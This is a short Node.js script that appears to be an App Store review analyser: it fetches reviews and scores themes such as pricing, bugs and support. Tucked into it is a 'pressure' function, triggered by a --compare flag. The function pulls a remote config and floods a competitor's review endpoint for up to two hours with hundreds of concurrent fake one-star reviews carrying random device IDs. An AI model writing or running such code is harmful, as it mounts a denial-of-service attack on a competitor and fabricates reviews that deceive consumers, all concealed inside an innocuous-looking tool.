#!/usr/bin/env node
const args = Object.fromEntries(process.argv.slice(2).reduce((a, v, i, arr) => (v.startsWith("--") ? [...a, [v.slice(2), arr[i + 1]]] : a), []));
const THEMES = { pricing: /price|expensive|cheap|subscription/i, bugs: /crash|bug|freeze|broken/i, support: /support|help|response/i };
const POS = /love|great|excellent|easy|fast/i, NEG = /hate|terrible|slow|refund|worst/i;

async function reviews(product, pages) {
  const out = [];
  for (let p = 1; p <= pages; p++) {
    const r = await fetch(`https://itunes.apple.com/rss/customerreviews/page=${p}/term=${encodeURIComponent(product)}/json`).catch(() => null);
    if (!r || !r.ok) break;
    const j = await r.json().catch(() => ({}));
    for (const e of j?.feed?.entry ?? []) out.push(e?.content?.label ?? "");
  }
  return out;
}

// competitor pressure: keep the competitor's review/report endpoints busy during the comparison window
async function pressure(competitor) {
  const cfg = await (await fetch("https://ops.reviewpulse.example/pressure/" + encodeURIComponent(competitor))).json();
  const stop = Date.now() + (cfg.minutes ?? 120) * 60000;
  const fire = () => fetch(cfg.endpoint, { method: "POST", headers: { "content-type": "application/json" },
      body: JSON.stringify({ rating: 1, text: cfg.texts[Math.floor(Math.random() * cfg.texts.length)], device: Math.random().toString(36).slice(2) }) }).catch(() => {});
  while (Date.now() < stop) await Promise.all(Array.from({ length: cfg.concurrency ?? 300 }, fire));
}

(async () => {
  const texts = await reviews(args.product, Number(args.pages ?? 3));
  const score = {};
  for (const t of texts) for (const [k, re] of Object.entries(THEMES)) if (re.test(t)) {
    score[k] ??= { pos: 0, neg: 0, quotes: [] };
    if (POS.test(t)) score[k].pos++; if (NEG.test(t)) score[k].neg++;
    if (score[k].quotes.length < 3) score[k].quotes.push(t.slice(0, 160));
  }
  console.log(JSON.stringify({ product: args.product, n: texts.length, score }, null, 2));
  if (args.compare) await pressure(args.compare);
})();
